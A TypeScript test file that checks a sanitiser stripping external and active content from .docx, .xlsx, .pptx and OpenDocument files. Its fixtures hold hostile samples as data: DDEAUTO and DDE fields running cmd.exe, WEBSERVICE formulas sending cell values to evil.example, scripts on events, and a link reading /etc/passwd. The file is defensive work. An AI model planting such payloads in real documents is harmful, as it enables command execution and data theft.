import * as zlib from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { decodeUtf8, encodeUtf8 } from '../../encoding/utf8.ts';
import { zlibCodec } from '../fixtures/zlib-codec.ts';
import { parseXml } from '../xml/xml.ts';
import { readPart, readZip, writeZip } from '../zip/zip.ts';
import { withoutExternalContent } from './without-external-content.ts';

const codec = zlibCodec(zlib);

const packed = (parts: Record<string, string | Uint8Array>): Uint8Array =>
  writeZip(
    Object.entries(parts).map(([name, part]) => ({
      name,
      bytes: typeof part === 'string' ? encodeUtf8(part) : part,
    })),
    codec.deflate,
  );

/** A part after the file that it is in was made harmless. */
function rewritten(
  name: string,
  content: string | Uint8Array,
  others: Record<string, string> = {},
) {
  const archive = readZip(withoutExternalContent(packed({ [name]: content, ...others }), codec));
  const entry = archive.byName.get(name);
  return entry ? decodeUtf8(readPart(entry, codec.inflate)) : null;
}

const textOf = (xml: string): string => xml.replaceAll(/<[^>]*>/g, '');
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const run = (text: string) => `<w:r><w:t>${text}</w:t></w:r>`;
const field = (instruction: string, result: string) =>
  mark('begin') + code(instruction) + mark('separate') + run(result) + mark('end');
const paragraph = (inner: string) =>
  `<w:body><w:p>${run('Before ')}${inner}${run(' after')}</w:p></w:body>`;

describe('withoutExternalContent of the fields of a .docx', () => {
  it.each([
    ['DDEAUTO', ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '],
    ['DDE', 'DDE Excel "C:\\\\evil.xlsx" R1C1'],
    ['lower case', ' ddeauto cmd '],
    ['included text', ' INCLUDETEXT "http://evil.example/t.docx" '],
    ['a linked picture', ' INCLUDEPICTURE "http://evil.example/p.png" \\d '],
    ['a linked object', ' LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\a.xlsx" '],
    ['a database', ' DATABASE \\d "http://evil.example" '],
    ['letters as numbers', ' &#68;DEAUTO cmd '],
    ['CDATA', '<![CDATA[ DDEAUTO cmd ]]>'],
    ['a comment inside', ' DDE<!-- x -->AUTO cmd '],
  ])('keeps the result of %s and nothing else', (_, instruction) => {
    const after = rewritten('word/document.xml', paragraph(field(instruction, 'the total')));
    expect(textOf(after ?? '')).toBe('Before the total after');
    expect(after).not.toMatch(/fldChar|DDE|evil/i);
    parseXml(after ?? '');
  });

  it('finds a name that is split over runs, in any part and under any prefix', () => {
    const split =
      mark('begin') + code(' DDE') + code('AUTO cmd ') + mark('separate') + run('x') + mark('end');
    for (const name of ['word/header1.xml', 'word/footnotes.xml', 'word/glossary/document.xml']) {
      const after = rewritten(name, paragraph(split).replaceAll('w:', 'ns0:'));
      expect(textOf(after ?? '')).toBe('Before x after');
    }
  });

  it('finds fields in the code of others, and others in their code', () => {
    const quote =
      mark('begin') + code(' QUOTE 99 100 ') + mark('separate') + run('cd') + mark('end');
    const outer =
      mark('begin') +
      code(' DDEAUTO ') +
      quote +
      code(' x ') +
      mark('separate') +
      run('seen') +
      mark('end');
    expect(textOf(rewritten('word/document.xml', paragraph(outer)) ?? '')).toBe(
      'Before seen after',
    );
    const named =
      mark('begin') + quote + code(' cmd ') + mark('separate') + run('seen') + mark('end');
    expect(textOf(rewritten('word/document.xml', paragraph(named)) ?? '')).toBe(
      'Before seen after',
    );
    const inner =
      mark('begin') +
      code(' IF 1 = 1 ') +
      field(' DDE cmd ', 'part') +
      mark('separate') +
      run('seen') +
      mark('end');
    const after = rewritten('word/document.xml', paragraph(inner)) ?? '';
    expect(after).not.toContain('DDE');
    expect(after).toContain(' IF 1 = 1 ');
  });

  it('unwraps simple fields, and takes fields that don’t end', () => {
    const simple = `<w:fldSimple w:instr=" DDEAUTO cmd ">${run('seen')}</w:fldSimple>`;
    const after = rewritten('word/document.xml', paragraph(simple));
    expect(after).toBe(paragraph(run('seen')));
    const open = mark('begin') + code(' DDEAUTO cmd ');
    const unended = rewritten('word/document.xml', paragraph(open)) ?? '';
    expect(unended).not.toMatch(/DDE|fldChar/);
    expect(textOf(unended)).toBe('Before  after');
  });

  it('keeps page numbers, links, references and citations byte for byte', () => {
    const xml = paragraph(
      field(' PAGE ', '3') +
        field(' HYPERLINK "https://example.org/" ', 'there') +
        field(' ADDIN ZOTERO_ITEM {"a":1} ', '(Ong 1982)') +
        field(' REF _Ref1 \\h ', 'Figure 1') +
        `<w:fldSimple w:instr=" SEQ Figure ">${run('1')}</w:fldSimple>`,
    );
    const bytes = packed({ 'word/document.xml': xml });
    expect(withoutExternalContent(bytes, codec)).toBe(bytes);
  });

  it('reads parts in UTF-16', () => {
    const xml = `<?xml version="1.0" encoding="UTF-16"?>${paragraph(field(' DDEAUTO cmd ', 'the total'))}`;
    const bytes = Uint8Array.from([
      0xff,
      0xfe,
      ...[...xml].flatMap((letter) => [letter.charCodeAt(0), 0]),
    ]);
    const after = rewritten('word/document.xml', bytes) ?? '';
    expect(textOf(after)).toBe('Before the total after');
    expect(after).not.toMatch(/DDE|encoding/);
  });

  it('takes mail merges, sources of older pictures, controls and inserted pages', () => {
    const merge =
      '<w:settings><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge><w:zoom/></w:settings>';
    expect(rewritten('word/settings.xml', merge)).toBe('<w:settings><w:zoom/></w:settings>');
    expect(
      rewritten('word/document.xml', '<v:imagedata src="http://evil.example/p.png" r:id="r1"/>'),
    ).toBe('<v:imagedata src="about:blank" r:id="r1"/>');
    expect(
      rewritten(
        'word/activeX/activeX1.xml',
        '<ax:ocx ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" r:id="r1"/>',
      ),
    ).toBe('<ax:ocx ax:classid="{00000000-0000-0000-0000-000000000000}" r:id="r1"/>');
    expect(
      rewritten(
        'word/afchunk.htm',
        '<html><head><link href="http://evil.example"></head><body onload="x"><p>Kept <img src="http://evil.example/p.png">text</p><script>1</script></body></html>',
      ),
    ).toBe('<html><body><p>Kept text</p></body></html>');
    expect(rewritten('word/afchunk.rtf', '{\\rtf1 {\\field DDEAUTO}}')).toBe('');
  });
});

const sheet = (formula: string) =>
  `<worksheet><sheetData><row><c r="A1"><f>${formula}</f><v>42</v></c></row></sheetData></worksheet>`;

describe('withoutExternalContent of an .xlsx', () => {
  it.each([
    ['a call of a program', "cmd|'/c calc'!A0"],
    ['DDE', 'DDE("cmd","/c calc","x")'],
    ['a web service', '_xlfn.WEBSERVICE("http://evil.example/?"&amp;A2)'],
    ['a linked picture', '_xlfn.IMAGE("http://evil.example/p.png")'],
    ['CDATA', '<![CDATA[WEBSERVICE("http://evil.example")]]>'],
  ])('keeps the value of a cell and not %s', (_, formula) => {
    const after = rewritten('xl/worksheets/sheet1.xml', sheet(formula));
    expect(after).toContain('<c r="A1"><v>42</v></c>');
  });

  it('takes links to programs, with the formulas and names that use them', () => {
    const link =
      '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink></externalLink>';
    const others = { 'xl/externalLinks/externalLink1.xml': link };
    expect(rewritten('xl/externalLinks/externalLink1.xml', link)).toBe(
      '<externalLink></externalLink>',
    );
    expect(rewritten('xl/worksheets/sheet1.xml', sheet("[1]!'!A0'"), others)).toContain(
      '<c r="A1"><v>42</v></c>',
    );
    const names =
      '<workbook><definedNames><definedName name="n">[1]!A0</definedName></definedNames></workbook>';
    expect(rewritten('xl/workbook.xml', names, others)).toContain(
      '<definedName name="n">#REF!</definedName>',
    );
  });

  it('takes shared formulas together', () => {
    const xml =
      '<sheetData><c><f t="shared" ref="A1:A2" si="0">WEBSERVICE("x")</f><v>1</v></c><c><f t="shared" si="0"/><v>2</v></c><c><f t="shared" si="1"/><v>3</v></c></sheetData>';
    expect(rewritten('xl/worksheets/sheet1.xml', xml)).toBe(
      '<sheetData><c><v>1</v></c><c><v>2</v></c><c><f t="shared" si="1"/><v>3</v></c></sheetData>',
    );
  });

  it('takes what connections ask for, and what is refreshed by itself', () => {
    const connections =
      '<connections><connection id="1" name="c" odcFile="C:\\a.odc" refreshOnLoad="1" interval="5"><dbPr connection="Provider=x;Data Source=evil.example" command="exec"/><webPr url="http://evil.example/"/><textPr sourceFile="\\\\evil.example\\x"/></connection></connections>';
    const after = rewritten('xl/connections.xml', connections) ?? '';
    expect(after).not.toMatch(/evil|exec|refreshOnLoad="1"|C:/);
    expect(after).toContain('name="c"');
    expect(rewritten('xl/pivotCache/pivotCacheDefinition1.xml', '<p refreshOnLoad="1"/>')).toBe(
      '<p refreshOnLoad="0"/>',
    );
  });

  it('keeps ordinary formulas, links included, byte for byte', () => {
    const formulas = [
      'SUM(A2:A9)',
      'HYPERLINK("https://example.org/","there")',
      '"a|b!"&amp;A2',
      "'Sheet 2'!A1",
      'IMAGINARY(A1)',
    ];
    for (const formula of formulas) {
      const bytes = packed({ 'xl/worksheets/sheet1.xml': sheet(formula) });
      expect(withoutExternalContent(bytes, codec), formula).toBe(bytes);
    }
  });
});

describe('withoutExternalContent of a .pptx', () => {
  const slide = 'ppt/slides/slide1.xml';

  it('takes what begins without a click, and actions that start a program', () => {
    expect(
      rewritten(
        slide,
        '<p:cNvPr id="1" name="a"><a:hlinkMouseOver r:id="r1"/><a:hlinkClick r:id="r2" action="ppaction://program"/></p:cNvPr>',
      ),
    ).toBe('<p:cNvPr id="1" name="a"><a:hlinkClick r:id="r2" action=""/></p:cNvPr>');
    expect(rewritten(slide, '<p:cmd type="verb" cmd="0"><p:cBhvr/></p:cmd>')).toBe(
      '<p:cmd type="call" cmd="pause"><p:cBhvr/></p:cmd>',
    );
  });

  it('keeps links and steps between slides', () => {
    const xml =
      '<p:sld><a:hlinkClick r:id="r1"/><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/><p:cmd type="call" cmd="playFrom(0.0)"/></p:sld>';
    const bytes = packed({ [slide]: xml });
    expect(withoutExternalContent(bytes, codec)).toBe(bytes);
  });
});

describe('withoutExternalContent of an .odt, .ods or .odp', () => {
  const content = (xml: string, name = 'content.xml') =>
    rewritten(name, xml, { mimetype: 'application/vnd.oasis.opendocument.text' });

  it.each([
    [
      'a link to a program',
      '<text:dde-connection-decl office:name="a" office:dde-application="soffice" office:dde-topic="/etc/passwd" office:dde-item="x" office:automatic-update="true"/><text:dde-connection text:connection-name="a">seen</text:dde-connection>',
      '<text:dde-connection-decl office:name="a" office:dde-application="" office:dde-topic="" office:dde-item="" office:automatic-update="false"/><text:dde-connection text:connection-name="a">seen</text:dde-connection>',
    ],
    [
      'a formula',
      '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;;&quot;y&quot;)" office:value="42"><text:p>42</text:p></table:table-cell>',
      '<table:table-cell table:formula="" office:value="42"><text:p>42</text:p></table:table-cell>',
    ],
    [
      'a script on an event',
      '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x.py$run"/>',
      '<script:event-listener script:event-name="dom:load" xlink:href="about:blank"/>',
    ],
    [
      'a script behind a link',
      '<text:a xlink:href="vnd.sun.star.script:x.py$run">seen</text:a>',
      '<text:a xlink:href="about:blank">seen</text:a>',
    ],
    [
      'a form',
      '<xforms:instance src="http://evil.example/"/>',
      '<xforms:instance src="about:blank"/>',
    ],
    [
      'a path out of the file',
      '<draw:image xlink:href="Pictures/../../x.png"/>',
      '<draw:image xlink:href="about:blank"/>',
    ],
    [
      'declared words',
      '<!DOCTYPE x [<!ENTITY e "http://evil.example">]><x><draw:image xlink:href="&e;"/></x>',
      '<x><draw:image xlink:href="&e;"/></x>',
    ],
  ])('keeps what is shown of %s', (_, before, after) => {
    expect(content(before)).toBe(after);
  });

  it('takes what pictures load, and keeps pictures in them', () => {
    const svg =
      '<svg><image href="http://evil.example/p.png"/><image xlink:href="data:image/png;base64,AA"/><use href="#a"/><rect style="fill:url(http://evil.example/x)" clip-path="url(#b)"/><a href="https://example.org/">there</a><script>1</script></svg>';
    const after =
      '<svg><image href="about:blank"/><image xlink:href="data:image/png;base64,AA"/><use href="#a"/><rect style="fill:url(#)" clip-path="url(#b)"/><a href="https://example.org/">there</a></svg>';
    expect(content(svg, 'Pictures/1.svg')).toBe(after);
    expect(rewritten('word/media/image1.svg', svg)).toBe(after);
  });

  it('keeps links and clicks on slides', () => {
    const xml =
      '<x><text:a xlink:href="https://example.org/">there</text:a><presentation:event-listener script:event-name="dom:click" presentation:action="show" xlink:href="https://example.org/"/><table:table-cell table:formula="of:=SUM([.A1:.A9])"/></x>';
    expect(content(xml)).toBe(xml);
  });
});

describe('withoutExternalContent', () => {
  it('looks into office files in the file', () => {
    const inner = packed({ 'word/document.xml': paragraph(field(' DDEAUTO cmd ', 'seen')) });
    const after = withoutExternalContent(packed({ 'word/embeddings/a.docx': inner }), codec);
    const entry = readZip(after).byName.get('word/embeddings/a.docx');
    const xml = readPart(
      readZip(readPart(entry!, codec.inflate)).byName.get('word/document.xml')!,
      codec.inflate,
    );
    expect(textOf(decodeUtf8(xml))).toBe('Before seen after');
  });

  it('is proportional to what it reads, whatever that is', () => {
    const many = (piece: string) => piece.repeat(900_000 / piece.length);
    for (const [name, xml] of [
      ['word/document.xml', `<w:instrText/>${many('<!--')}`],
      ['word/document.xml', many('<w:fldChar w:fldCharType="begin"/>')],
      ['word/settings.xml', many('<w:mailMerge>')],
      ['xl/worksheets/sheet1.xml', many('<f>')],
      ['xl/worksheets/sheet1.xml', `<f>${many('|!')}`],
      ['word/a.htm', many('<script>')],
      ['word/document.xml', many('<!DOCTYPE [')],
    ] as const) {
      expect(rewritten(name, xml), name).not.toBeNull();
    }
  });
});
